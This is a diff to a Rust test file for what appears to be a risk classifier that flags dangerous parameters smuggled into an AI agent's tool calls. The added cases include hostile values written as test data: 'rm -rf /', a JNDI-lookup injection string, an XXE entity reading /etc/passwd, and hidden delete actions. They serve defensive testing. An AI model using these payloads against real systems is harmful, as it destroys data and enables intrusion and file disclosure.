@@ -302,6 +302,10 @@ fn a_param_named_like_an_order_is_one() {
             assert!(found.exceeds(RiskTier::Read).is_some(), "{key} {value}");
         }
     }
+    let found = call("edit_ticket", &json!({"remove_labels": ["a"], "delete_ids": [5]}));
+    assert_eq!(found.exceeds(RiskTier::ReversibleWrite), None, "its params were known");
+    let found = call("edit_ticket", &json!({"hard_delete": true}));
+    assert!(found.exceeds(RiskTier::ReversibleWrite).is_some(), "whether it is on was not");
     for off in
         [json!(""), json!("none"), json!("no"), json!([]), json!([0]), json!({}), json!(null)]
     {
@@ -328,6 +332,21 @@ fn a_param_named_like_an_order_is_one() {
             ("get_report", json!({"readOnly": "false"})),
             ("get_report", json!({"what_if": 0})),
             ("get_report", json!({"powershell": "Remove-Item x"})),
+            ("get_report", json!({"_delete": "5"})),
+            ("get_report", json!({"transfer_to": "a"})),
+            ("get_report", json!({"dump_to": "a"})),
+            ("get_report", json!({"on_complete": "rm -rf /"})),
+            ("get_report", json!({"out": "x.csv"})),
+            ("get_report", json!({"log_file": "x"})),
+            ("get_report", json!({"actions": [{"name": "delete"}]})),
+            ("get_report", json!({"tool_calls": [{"function": {"name": "delete_user"}}]})),
+            ("get_report", json!({"query": "PUT /idx/_settings {}"})),
+            ("get_report", json!({"request_line": "DELETE /orders/5"})),
+            ("get_report", json!({"filter": "${jndi:ldap://x.example/a}"})),
+            (
+                "get_report",
+                json!({"xml": "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>"}),
+            ),
             ("kubectl_get", json!({"resource": "secrets"})),
             ("kubectl_get", json!({"resourceType": "secret", "name": "x"})),
         ],
@@ -338,6 +357,9 @@ fn a_param_named_like_an_order_is_one() {
             ("get_report", json!({"task": "how to delete a branch", "format": "pdf"})),
             ("get_user", json!({"login": "octocat", "handle": "octocat"})),
             ("get_report", json!({"callback": "none", "webhook": "wh-5"})),
+            ("get_report", json!({"date_to": "2026-01-01", "close_to": "Rome", "related_to": "a"})),
+            ("get_report", json!({"out": "json", "hook": "h5", "query": "POST a letter"})),
+            ("get_report", json!({"pipeline": [{"$set": {"a": 1}}], "function": {"name": "list"}})),
             ("search_hotels", json!({"check_in": "2026-05-01", "checkout": "2026-05-03"})),
             ("kubectl_get", json!({"resource": "pods", "name": "secret"})),
             ("find_documents", json!({"filter": {"age": {"$gt": 5}}, "limit": 5, "skip": 5})),
@@ -389,6 +411,7 @@ fn git_is_read_where_the_tool_starts_it_and_held_where_anybody_could_have_put_th
             "/home/a/Downloads/x",
             "/repo/node_modules/x",
             "/repo/.git",
+            "$TMPDIR/x",
         ] {
             for (tool, params) in [
                 ("shell", json!({"command": "git status", key: folder})),
